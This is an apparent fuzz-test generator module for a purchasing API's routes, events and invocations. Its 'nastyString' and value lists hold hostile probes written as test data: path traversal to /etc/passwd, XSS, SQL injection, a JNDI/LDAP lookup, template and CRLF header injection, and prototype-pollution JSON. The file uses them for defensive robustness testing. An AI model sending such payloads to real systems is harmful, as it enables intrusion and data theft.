// Generators for the edge fuzz (fuzz.test.ts): valid requests, the same requests mutated, and plain garbage, for the
// HTTP routes, EventBridge commands and direct invocations. Everything is generated from a fixed seed.
import fc from 'fast-check';

export const ROUTES = {
  orders: 'POST /customers/{customerId}/orders',
  addOn: 'PATCH /customers/{customerId}/orders/{orderId}',
  carts: 'POST /customers/{customerId}/carts',
  checkout: 'POST /customers/{customerId}/carts/{cartId}/checkout',
  health: 'GET /health/credentials',
} as const;
export type PurchaseRoute = Exclude<(typeof ROUTES)[keyof typeof ROUTES], typeof ROUTES.health>;

/** Route keys API Gateway never sends to these functions (a misrouted or forged event). */
const BOGUS_ROUTES = [
  'DELETE /customers/{customerId}/orders',
  'GET /customers/{customerId}/orders',
  'POST /customers/{customerId}/orders/{orderId}',
  '$default',
  '',
  'POST /',
  'post /customers/{customerId}/orders',
];

const FIELD_NAMES = [
  'lineItems',
  'offerId',
  'catalogItemId',
  'quantity',
  'billingCycle',
  'termDuration',
  'friendlyName',
  'lineItemNumber',
  'id',
  'provisioningContext',
  'partnerIdOnRecord',
  'parentSubscriptionId',
  'participants',
  'renewsTo',
  'checkout',
  'partnerOnRecordAttestationAccepted',
  'customerId',
  'orderId',
  'cartId',
  'dryRun',
  'idempotencyKey',
  'status',
  'creationDate',
  'referenceCustomerId',
  'requestContext',
  'routeKey',
];

const PROTOTYPE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupGetter__',
  'isPrototypeOf',
];

/** `arb` in `percent` % of the cases, undefined otherwise. */
const sometimes = <T>(arb: fc.Arbitrary<T>, percent: number): fc.Arbitrary<T | undefined> =>
  fc.oneof({ weight: 100 - percent, arbitrary: fc.constant(undefined) }, { weight: percent, arbitrary: arb });

const upper = fc.uuid().map((id) => id.toUpperCase());
const guid = fc.oneof({ weight: 4, arbitrary: fc.uuid() }, { weight: 1, arbitrary: upper });
const alnum = (max: number) => fc.stringMatching(new RegExp(`^[A-Za-z0-9]{1,${max}}$`));
const digits = fc.stringMatching(/^\d{1,12}$/);
const term = fc.constantFrom('P1M', 'P1Y', 'P3Y', 'P7D', 'P12M');
const cycle = fc.constantFrom('monthly', 'Monthly', 'annual', 'triennial', 'none', 'one_time', 'OneTime', 'oneTime');
const text = (max: number) =>
  fc.oneof(
    fc.string({ minLength: 1, maxLength: Math.min(max, 40) }),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: Math.min(max, 20) }),
  );
const provisioning = fc.dictionary(fc.string({ minLength: 1, maxLength: 30 }), fc.string({ maxLength: 60 }), {
  maxKeys: 4,
});

const offerId = fc.oneof(
  fc.uuid(),
  fc.tuple(alnum(12), alnum(6), alnum(12)).map(([a, b, c]) => `${a}:${b}:${c}`),
  fc.constant('CFQ7TTC0LH18:0001:CFQ7TTC0K59S'),
);
const catalogItemId = fc.oneof(
  fc.tuple(alnum(12), alnum(6), alnum(12)).map(([a, b, c]) => `${a}:${b}:${c}`),
  fc.constant('CFQ7TTC0LH18:0001:CFQ7TTC0K59S'),
  fc.constant('MS-AZR-0145P'),
);

const orderLine = (addOn: boolean) =>
  fc.record(
    {
      offerId,
      quantity: fc.integer({ min: 1, max: 10_000 }),
      friendlyName: text(256),
      termDuration: term,
      provisioningContext: provisioning,
      partnerIdOnRecord: digits,
      ...(addOn ? { parentSubscriptionId: fc.uuid() } : {}),
    },
    { requiredKeys: addOn ? ['offerId', 'quantity', 'parentSubscriptionId'] : ['offerId', 'quantity'] },
  );

const cartLine = fc.record(
  {
    catalogItemId,
    quantity: fc.integer({ min: 1, max: 10_000 }),
    billingCycle: cycle,
    friendlyName: text(256),
    termDuration: term,
    provisioningContext: provisioning,
    participants: fc.array(
      fc.record({
        key: fc.constantFrom('transaction_reseller', 'consumption_reseller', 'TransactionReseller'),
        value: digits,
      }),
      { maxLength: 2 },
    ),
    renewsTo: fc.record({ termDuration: term }),
  },
  { requiredKeys: ['catalogItemId', 'quantity', 'billingCycle'] },
);

const orderFields = (addOn: boolean) =>
  fc.record(
    {
      lineItems: fc.array(orderLine(addOn), { minLength: 1, maxLength: 4 }),
      billingCycle: cycle,
      partnerOnRecordAttestationAccepted: fc.boolean(),
    },
    { requiredKeys: ['lineItems'] },
  );

const cartFields = fc.record(
  {
    lineItems: fc.array(cartLine, { minLength: 1, maxLength: 4 }),
    checkout: fc.boolean(),
    partnerOnRecordAttestationAccepted: fc.boolean(),
  },
  { requiredKeys: ['lineItems'] },
);

/** Valid bodies (with the occasional line number or id, which must then be on every line, 0..n-1). */
export const validBody = (route: PurchaseRoute): fc.Arbitrary<unknown> => {
  switch (route) {
    case ROUTES.orders:
      return orderFields(false);
    case ROUTES.addOn:
      return orderFields(true);
    case ROUTES.carts:
      return cartFields;
    case ROUTES.checkout:
      return fc.constantFrom(undefined, {});
  }
};

/** A body close to the limits: 100 lines with long texts, valid, a little under or over 256 KiB. */
export const bigBody = (route: PurchaseRoute, over: boolean): unknown => {
  const name = 'n'.repeat(256);
  const context = Object.fromEntries(
    Array.from({ length: over ? 2 : 1 }, (_, i) => [`k${i}`, 'v'.repeat(over ? 2048 : 2000)]),
  );
  if (route === ROUTES.carts || route === ROUTES.checkout) {
    return {
      lineItems: Array.from({ length: 100 }, (_, i) => ({
        catalogItemId: `BIGCART${i}:0001:X`,
        quantity: 1,
        billingCycle: 'monthly',
        friendlyName: name,
        provisioningContext: context,
      })),
      checkout: true,
    };
  }
  return {
    lineItems: Array.from({ length: 100 }, (_, i) => ({
      offerId: `BIGORDER${i}:0001:X`,
      quantity: 1,
      friendlyName: name,
      provisioningContext: context,
      ...(route === ROUTES.addOn ? { parentSubscriptionId: '0f0e0d0c-0b0a-4909-8807-060504030201' } : {}),
    })),
  };
};

const nest = (depth: number, leaf: unknown, array: boolean): unknown => {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = array ? [value] : { a: value };
  return value;
};

/** Strings that have broken parsers, validators, logs or URLs somewhere. */
export const nastyString = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    'NaN',
    'Infinity',
    '-Infinity',
    '1e400',
    '-0',
    '0x10',
    '5.0',
    ' 5',
    'null',
    'undefined',
    'true',
    '__proto__',
    'constructor',
    '../../etc/passwd',
    '..%2F..%2Fv1',
    '%00',
    '/v1/customers/00000000-0000-0000-0000-000000000000/orders',
    '<script>alert(1)</script>',
    "' OR 1=1 --",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally
    '${jndi:ldap://x/a}',
    '{{7*7}}',
    '\u0000',
    'a\r\nInjected-Header: 1',
    '\ud800',
    '\udfff',
    '\u202eevil',
    '\ufeffbom',
    '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ☃ 🙂',
    'Ω≈ç√∫˜µ≤≥÷',
    'Ａｂｃ',
    'CFQ7TTC0LH18:0001:CFQ7TTC0K59S\n',
    '4A8C3E2D-1B6F-4C7E-9D2A-5F0E1B3C7A90 ',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ maxLength: 120 }),
  fc.constantFrom(257, 1025, 5000, 70_000, 300_000).map((n) => 'x'.repeat(n)),
);

/** Values of the wrong type, shape or size, and prototype-pollution attempts. */
export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nastyString },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      0.1,
      10_001,
      1e21,
      -0,
      2 ** 53 + 2,
      [],
      {},
      [null],
      [[]],
      { '': '' },
    ),
  },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(30, 300, 1000), fc.boolean())
      .map(([depth, array]) => nest(depth, 'deep', array)),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(
        '{"__proto__":{"polluted":"yes"}}',
        '{"constructor":{"prototype":{"polluted":"yes"}}}',
        '{"prototype":{"polluted":"yes"}}',
        '{"__proto__":"yes"}',
      )
      .map((json) => JSON.parse(json) as unknown),
  },
);

export const anyKey = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...FIELD_NAMES) },
  { weight: 2, arbitrary: fc.constantFrom(...PROTOTYPE_KEYS) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 10 }) },
);

export interface Mutation {
  kind: 'set' | 'delete' | 'add' | 'replace-root' | 'duplicate-array-item';
  picks: number[];
  key: string;
  value: unknown;
}

export const mutations = fc.array(
  fc.record({
    kind: fc.constantFrom<Mutation['kind']>(
      'set',
      'set',
      'set',
      'delete',
      'add',
      'add',
      'replace-root',
      'duplicate-array-item',
    ),
    picks: fc.array(fc.nat(), { maxLength: 5 }),
    key: anyKey,
    value: nastyValue,
  }),
  { minLength: 1, maxLength: 3 },
);

const own = (target: object, key: string, value: unknown) =>
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });

/** Applies mutations to a deep copy of `value`: walk down by `picks`, then change what is there. */
export function mutate(value: unknown, changes: readonly Mutation[]): unknown {
  let root: unknown = value === undefined ? undefined : structuredClone(value);
  for (const change of changes) {
    if (change.kind === 'replace-root' || root === null || typeof root !== 'object') {
      root = typeof change.value === 'object' && change.value !== null ? structuredClone(change.value) : change.value;
      continue;
    }
    let node = root as Record<string, unknown>;
    for (const pick of change.picks) {
      const keys = Object.keys(node);
      const next = keys.length === 0 ? undefined : node[keys[pick % keys.length] as string];
      if (next === null || typeof next !== 'object') break;
      node = next as Record<string, unknown>;
    }
    const keys = Object.keys(node);
    const existing = keys.length === 0 ? undefined : (keys[(change.picks.at(-1) ?? 0) % keys.length] as string);
    // A copy: generated values may be shared between runs.
    const value =
      typeof change.value === 'object' && change.value !== null ? structuredClone(change.value) : change.value;
    switch (change.kind) {
      case 'set':
        if (existing !== undefined) own(node, existing, value);
        break;
      case 'delete':
        if (existing !== undefined) delete node[existing];
        break;
      case 'add':
        if (Array.isArray(node)) node.push(value);
        else own(node, change.key, value);
        break;
      case 'duplicate-array-item':
        if (Array.isArray(node) && node.length > 0) node.push(...Array.from({ length: 120 }, () => node[0]));
        break;
    }
  }
  return root;
}

export type Encoding =
  | { kind: 'json' }
  | { kind: 'duplicate-key'; key: string; value: unknown; first: boolean }
  | { kind: 'raw-number'; literal: string }
  | { kind: 'escaped-key'; proto: boolean }
  | { kind: 'bom' }
  | { kind: 'trailing'; garbage: string }
  | { kind: 'truncate'; at: number }
  | { kind: 'deep-text'; depth: number; array: boolean };

export const encodings: fc.Arbitrary<Encoding> = fc.oneof(
  { weight: 10, arbitrary: fc.constant({ kind: 'json' as const }) },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('duplicate-key' as const),
      key: fc.constantFrom('lineItems', 'billingCycle', 'checkout', '__proto__', 'quantity'),
      value: nastyValue,
      first: fc.boolean(),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('raw-number' as const),
      literal: fc.constantFrom('1e400', '-1e400', '1.0', '1E1', '-0', '1.5e-400', '00001', '1_000', 'NaN', 'Infinity'),
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('escaped-key' as const), proto: fc.boolean() }) },
  { weight: 1, arbitrary: fc.constant({ kind: 'bom' as const }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('trailing' as const),
      garbage: fc.constantFrom(',', ' x', '}', ']', '\u0000'),
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('deep-text' as const),
      depth: fc.constantFrom(100, 5_000, 60_000),
      array: fc.boolean(),
    }),
  },
);

/** Serialises a value to the text a caller would send, broken in the way `encoding` says. */
export function encode(value: unknown, encoding: Encoding): string | undefined {
  if (encoding.kind === 'deep-text') {
    return encoding.array
      ? `${'['.repeat(encoding.depth)}${']'.repeat(encoding.depth)}`
      : `${'{"a":'.repeat(encoding.depth)}1${'}'.repeat(encoding.depth)}`;
  }
  const json = JSON.stringify(value);
  if (json === undefined) return undefined;
  switch (encoding.kind) {
    case 'json':
      return json;
    case 'duplicate-key': {
      if (!json.startsWith('{') || json === '{}') return json;
      const extra = `${JSON.stringify(encoding.key)}:${JSON.stringify(encoding.value) ?? 'null'}`;
      return encoding.first ? `{${extra},${json.slice(1)}` : `${json.slice(0, -1)},${extra}}`;
    }
    case 'raw-number':
      return json.replace(/"quantity":\d+/, `"quantity":${encoding.literal}`);
    case 'escaped-key':
      return encoding.proto
        ? json.replace(/^\{/, '{"\\u005f\\u005fproto__":{"polluted":"yes"},')
        : json.replace('"lineItems"', '"\\u006cineItems"');
    case 'bom':
      return `\ufeff${json}`;
    case 'trailing':
      return `${json}${encoding.garbage}`;
    case 'truncate':
      return json.slice(0, encoding.at % Math.max(1, json.length));
  }
}

/** A body: valid for the route, mutated, another route's, random JSON, garbage, or a size edge. */
export const bodyFor = (route: string) => {
  const purchase = (Object.values(ROUTES) as string[]).includes(route) && route !== ROUTES.health;
  const valid = purchase ? validBody(route as PurchaseRoute) : fc.constant<unknown>({});
  const other = fc.constantFrom(ROUTES.orders, ROUTES.addOn, ROUTES.carts).chain(validBody);
  return fc.oneof(
    { weight: 8, arbitrary: valid.map((value) => ({ value, encoding: { kind: 'json' } as Encoding })) },
    {
      weight: 7,
      arbitrary: fc.record({ value: fc.tuple(valid, mutations).map(([v, m]) => mutate(v, m)), encoding: encodings }),
    },
    { weight: 2, arbitrary: fc.record({ value: valid, encoding: encodings }) },
    { weight: 1, arbitrary: other.map((value) => ({ value, encoding: { kind: 'json' } as Encoding })) },
    { weight: 1, arbitrary: fc.record({ value: fc.jsonValue({ maxDepth: 4 }), encoding: encodings }) },
    {
      weight: 1,
      arbitrary: fc.record({
        raw: fc.oneof(nastyString, fc.constantFrom('', '   ', 'null', '[]', '"x"', '1', '{', 'a=b&c=d')),
      }),
    },
    {
      weight: 1,
      arbitrary: fc.boolean().map((over) => ({
        value: purchase ? bigBody(route as PurchaseRoute, over) : {},
        encoding: { kind: 'json' } as Encoding,
      })),
    },
  );
};

export type GeneratedBody = { value: unknown; encoding: Encoding } | { raw: string };

export const bodyText = (body: GeneratedBody): string | undefined =>
  'raw' in body ? body.raw : encode(body.value, body.encoding);

const pathFor = (route: string) => {
  const valid = fc.record({
    customerId: guid,
    ...(route.includes('{orderId}')
      ? { orderId: fc.oneof(alnum(30), fc.constant('Cs_jyTxubLpvdJXdo8xcQZN6I2RsLrgZ1')) }
      : {}),
    ...(route.includes('{cartId}') ? { cartId: guid } : {}),
  }) as fc.Arbitrary<Record<string, string>>;
  return fc.oneof(
    { weight: 8, arbitrary: valid.map((p) => p as Record<string, string> | undefined) },
    {
      weight: 3,
      arbitrary: fc
        .tuple(valid, fc.constantFrom('customerId', 'orderId', 'cartId', 'extra'), nastyString)
        .map(([p, name, value]) => ({ ...p, [name]: value })),
    },
    { weight: 1, arbitrary: valid.map(({ customerId: _, ...rest }) => rest) },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
};

const queryArb = fc.oneof(
  { weight: 10, arbitrary: fc.constant<Record<string, string> | undefined>(undefined) },
  { weight: 4, arbitrary: fc.constant({ dryRun: 'true' }) },
  { weight: 1, arbitrary: fc.constant({ dryRun: 'false' }) },
  { weight: 2, arbitrary: nastyString.map((dryRun) => ({ dryRun })) },
  { weight: 1, arbitrary: fc.dictionary(anyKey, fc.string({ maxLength: 10 }), { minKeys: 1, maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.constant(JSON.parse('{"__proto__":"x","dryRun":"true"}') as Record<string, string>) },
);

const CONTENT_TYPES = [
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/problem+json',
  'application/vnd.api+json',
  'application/json-patch+json',
  'text/plain',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/jsonp',
  'application/json;',
  ' application/json',
  'application/json, text/plain',
  'json',
  '',
  '*/*',
];

const keyArb = fc.oneof(
  { weight: 6, arbitrary: fc.stringMatching(/^[\x20-\x7E]{1,255}$/) },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      '',
      '"',
      '""',
      '"order-1"',
      ' ',
      'k'.repeat(255),
      'k'.repeat(256),
      'k'.repeat(10_000),
      'clé',
      'key\u0000',
      'a\tb',
      'a\nb',
      '🙂',
    ),
  },
  { weight: 1, arbitrary: nastyString },
);

const correlationArb = fc.oneof(
  fc.uuid(),
  upper,
  fc.constantFrom('', 'not-a-guid', '{4a8c3e2d-1b6f-4c7e-9d2a-5f0e1b3c7a90}', '4a8c3e2d1b6f4c7e9d2a5f0e1b3c7a90'),
  fc.uuid().map((id) => `${id} `),
  nastyString,
);

export interface HeadersSpec {
  contentType?: string;
  capitalised: boolean;
  idempotencyKey?: string;
  correlationId?: string;
  extra: Record<string, string>;
}

const headersArb: fc.Arbitrary<HeadersSpec> = fc.record({
  contentType: fc.oneof(
    { weight: 12, arbitrary: fc.constant<string | undefined>('application/json') },
    { weight: 4, arbitrary: fc.constantFrom<string | undefined>(...CONTENT_TYPES) },
    { weight: 1, arbitrary: fc.constant<string | undefined>(undefined) },
  ),
  capitalised: fc.boolean(),
  idempotencyKey: fc.oneof({ weight: 2, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: keyArb }),
  correlationId: fc.oneof({ weight: 5, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: correlationArb }),
  extra: fc.oneof(
    { weight: 5, arbitrary: fc.constant({}) },
    {
      weight: 1,
      arbitrary: fc.dictionary(
        fc.oneof(
          fc.constantFrom('authorization', 'x-forwarded-for', 'content-length', 'host', '__proto__'),
          fc.string({ minLength: 1, maxLength: 12 }),
        ),
        fc.oneof(fc.string({ maxLength: 40 }), nastyString),
        { maxKeys: 3 },
      ),
    },
  ),
});

export interface HttpCase {
  route: string;
  pathParameters?: Record<string, string>;
  query?: Record<string, string>;
  headers: HeadersSpec;
  body: GeneratedBody | undefined;
  base64: boolean;
  /** Send it again: the same request (a retry), or the same key with a changed quantity (a misuse of the key). */
  repeat: 'none' | 'same' | 'changed';
}

export const httpCase: fc.Arbitrary<HttpCase> = fc
  .oneof(
    { weight: 6, arbitrary: fc.constantFrom<string>(ROUTES.orders, ROUTES.addOn, ROUTES.carts, ROUTES.checkout) },
    { weight: 1, arbitrary: fc.constant<string>(ROUTES.health) },
    { weight: 1, arbitrary: fc.constantFrom(...BOGUS_ROUTES) },
  )
  .chain((route) =>
    fc.record({
      route: fc.constant(route),
      pathParameters: route === ROUTES.health ? fc.constant(undefined) : pathFor(route),
      query: queryArb,
      headers: headersArb,
      body: fc.oneof({ weight: 12, arbitrary: bodyFor(route) }, { weight: 1, arbitrary: fc.constant(undefined) }),
      base64: fc.oneof({ weight: 15, arbitrary: fc.constant(false) }, { weight: 1, arbitrary: fc.constant(true) }),
      repeat: fc.oneof(
        { weight: 16, arbitrary: fc.constant<HttpCase['repeat']>('none') },
        { weight: 3, arbitrary: fc.constant<HttpCase['repeat']>('same') },
        { weight: 1, arbitrary: fc.constant<HttpCase['repeat']>('changed') },
      ),
    }),
  );

/** EventBridge detail (the command), valid or mutated. */
const orderDetail = fc
  .tuple(guid, sometimes(alnum(20), 25))
  .chain(([customerId, orderId]) =>
    orderFields(orderId !== undefined).map((order) => ({ customerId, ...(orderId ? { orderId } : {}), ...order })),
  );
const cartDetail = fc.tuple(guid, cartFields).map(([customerId, cart]) => ({ customerId, ...cart }));

export interface EventCase {
  text: string;
}

export const eventCase: fc.Arbitrary<EventCase> = fc
  .record({
    detailType: fc.oneof(
      { weight: 8, arbitrary: fc.constantFrom('CreateOrder', 'CreateCart') },
      {
        weight: 1,
        arbitrary: fc.oneof(fc.constantFrom('DeleteOrder', 'createOrder', 'OrderCreated', ''), nastyString),
      },
    ),
    id: fc.oneof({ weight: 8, arbitrary: fc.uuid() }, { weight: 1, arbitrary: nastyValue }),
    source: fc.oneof(
      { weight: 8, arbitrary: fc.constant('com.example.billing') },
      { weight: 1, arbitrary: nastyValue },
    ),
    key: fc.oneof(
      { weight: 3, arbitrary: fc.constant(undefined) },
      { weight: 1, arbitrary: keyArb },
      { weight: 1, arbitrary: nastyValue },
    ),
    order: orderDetail,
    cart: cartDetail,
    detailMutations: sometimes(mutations, 45),
    envelopeMutations: sometimes(mutations, 15),
    encoding: fc.oneof(
      { weight: 8, arbitrary: fc.constant<Encoding>({ kind: 'json' }) },
      { weight: 1, arbitrary: encodings },
    ),
    garbage: sometimes(fc.oneof(nastyString, fc.constantFrom('', 'null', '[]', '{}', '"x"')), 8),
  })
  .map(({ detailType, id, source, key, order, cart, detailMutations, envelopeMutations, encoding, garbage }) => {
    if (garbage !== undefined) return { text: garbage };
    const command = detailType === 'CreateCart' ? cart : order;
    const detail = {
      ...(detailMutations ? (mutate(command, detailMutations) as object) : command),
      ...(key === undefined ? {} : { idempotencyKey: key }),
    };
    const envelope = {
      version: '0',
      id,
      'detail-type': detailType,
      source,
      account: '123456789012',
      time: new Date(0).toISOString(),
      region: 'eu-west-1',
      resources: [],
      detail,
    };
    const value = envelopeMutations ? mutate(envelope, envelopeMutations) : envelope;
    return { text: encode(value, encoding) ?? 'undefined' };
  });

/** A direct invocation payload for the order or the cart function. */
export interface InvokeCase {
  fn: 'order' | 'cart';
  payload: unknown;
}

export const invokeCase: fc.Arbitrary<InvokeCase> = fc
  .record({
    fn: fc.constantFrom<'order' | 'cart'>('order', 'cart'),
    order: orderDetail,
    cart: cartDetail,
    checkout: fc.record({ customerId: guid, cartId: guid }),
    which: fc.nat(2),
    dryRun: fc.oneof(
      { weight: 3, arbitrary: fc.constant(undefined) },
      { weight: 2, arbitrary: fc.boolean() },
      { weight: 1, arbitrary: nastyValue },
    ),
    key: fc.oneof(
      { weight: 3, arbitrary: fc.constant(undefined) },
      { weight: 1, arbitrary: keyArb },
      { weight: 1, arbitrary: nastyValue },
    ),
    mutated: sometimes(mutations, 45),
    random: sometimes(
      fc.oneof(
        nastyValue,
        fc.dictionary(anyKey, nastyValue, { maxKeys: 6 }),
        fc.constant({ requestContext: {}, routeKey: 'POST /customers/{customerId}/orders', body: { a: 1 } }),
        fc.constant({ requestContext: null, routeKey: 7, headers: 'x', pathParameters: [] }),
        fc.constant({
          version: '2.0',
          routeKey: 'POST /customers/{customerId}/orders',
          requestContext: { http: { method: 'POST' } },
          pathParameters: { customerId: '4a8c3e2d-1b6f-4c7e-9d2a-5f0e1b3c7a90' },
          headers: { 'content-type': 'application/json' },
          body: { lineItems: [{ offerId: 'CFQ7TTC0LH18:0001:CFQ7TTC0K59S', quantity: 1 }] },
        }),
        fc.constant({ version: '2.0', routeKey: 'GET /', requestContext: { http: {} }, headers: 7, body: 12 }),
      ),
      15,
    ),
  })
  .map(({ fn, order, cart, checkout, which, dryRun, key, mutated, random }) => {
    if (random !== undefined) return { fn, payload: random };
    const base = fn === 'order' ? order : which === 0 ? checkout : cart;
    const payload = {
      ...(mutated ? (mutate(base, mutated) as object) : base),
      ...(dryRun === undefined ? {} : { dryRun }),
      ...(key === undefined ? {} : { idempotencyKey: key }),
    };
    return { fn, payload };
  });
